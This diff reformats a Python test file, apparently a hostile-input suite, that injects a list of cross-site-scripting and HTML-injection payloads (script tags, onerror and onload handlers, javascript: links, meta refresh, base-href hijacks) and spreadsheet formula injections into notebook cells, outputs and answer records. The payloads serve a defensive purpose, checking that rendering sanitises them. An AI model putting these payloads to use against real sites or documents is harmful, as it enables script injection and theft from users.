@@ -5,17 +5,31 @@ from __future__ import annotations
 from tests.hostile.kit import Kit, case
 
 SCRIPTS = [
-    "<script>PWN()</script>", "<img src=x onerror=PWN()>", "<svg/onload=PWN()>",
+    "<script>PWN()</script>",
+    "<img src=x onerror=PWN()>",
+    "<svg/onload=PWN()>",
     "<iframe srcdoc='<script>PWN()</script>'></iframe>",
-    "</div></td></body><script>PWN()</script>", "[click](javascript:PWN())", "<a href='javascript:PWN()'>click</a>",
-    "![x](x\" onerror=\"PWN())", "<style>body{background:url(https://example.org/PWN)}</style>",
+    "</div></td></body><script>PWN()</script>",
+    "[click](javascript:PWN())",
+    "<a href='javascript:PWN()'>click</a>",
+    '![x](x" onerror="PWN())',
+    "<style>body{background:url(https://example.org/PWN)}</style>",
     "<meta http-equiv=refresh content='0;url=https://example.org/PWN'>",
     "<form action=https://example.org/PWN><input name=a></form>",
-    "<!-- PWN --><object data=PWN></object><embed src=PWN>", "<math><mtext></mtext><script>PWN()</script></math>",
-    "```html\n<script>PWN()</script>\n```", "$\\href{javascript:PWN()}{x}$", "$$\\unicode{<script>PWN()</script>}$$",
-    "{{ cell.__class__ }}{% for x in PWN %}{% endfor %}", "&lt;script&gt;PWN()&lt;/script&gt;", "<SCRIPT\n>PWN()</SCRIPT\n>",
-    "\u2028<script>PWN()</script>", "<scr\0ipt>PWN()</scr\0ipt>", "<p style='position:fixed' onclick=PWN()>x</p>",
-    "<link rel=stylesheet href=https://example.org/PWN>", "<base href=https://example.org/PWN>"]
+    "<!-- PWN --><object data=PWN></object><embed src=PWN>",
+    "<math><mtext></mtext><script>PWN()</script></math>",
+    "```html\n<script>PWN()</script>\n```",
+    "$\\href{javascript:PWN()}{x}$",
+    "$$\\unicode{<script>PWN()</script>}$$",
+    "{{ cell.__class__ }}{% for x in PWN %}{% endfor %}",
+    "&lt;script&gt;PWN()&lt;/script&gt;",
+    "<SCRIPT\n>PWN()</SCRIPT\n>",
+    "\u2028<script>PWN()</script>",
+    "<scr\0ipt>PWN()</scr\0ipt>",
+    "<p style='position:fixed' onclick=PWN()>x</p>",
+    "<link rel=stylesheet href=https://example.org/PWN>",
+    "<base href=https://example.org/PWN>",
+]
 EVERYTHING = "\n\n".join(SCRIPTS)
 
 
@@ -35,8 +49,16 @@ def script_in_a_raw_cell(kit: Kit) -> None:
 
 @case("markup")
 def script_in_a_code_cell_and_its_outputs(kit: Kit) -> None:
-    kit.add_code(f"%%html\n{EVERYTHING}", outputs=[
-        {"output_type": "display_data", "metadata": {}, "data": {"text/html": EVERYTHING, "application/javascript": "PWN()"}}])
+    kit.add_code(
+        f"%%html\n{EVERYTHING}",
+        outputs=[
+            {
+                "output_type": "display_data",
+                "metadata": {},
+                "data": {"text/html": EVERYTHING, "application/javascript": "PWN()"},
+            }
+        ],
+    )
     kit.save_both()
 
 
@@ -119,5 +141,5 @@ def script_in_an_activitys_id(kit: Kit) -> None:
 def formulas_in_the_writing(kit: Kit) -> None:
     answer = kit.records["roles-reflection"]["answer"]
     for stage in [stage for stage in answer if stage != "model"]:
-        answer[stage] = "=HYPERLINK(\"https://example.org/\"&A1,\"PWN\")\n+1+1\n-2\n@SUM(A1)\n\t=1"
+        answer[stage] = '=HYPERLINK("https://example.org/"&A1,"PWN")\n+1+1\n-2\n@SUM(A1)\n\t=1'
     kit.save_both()
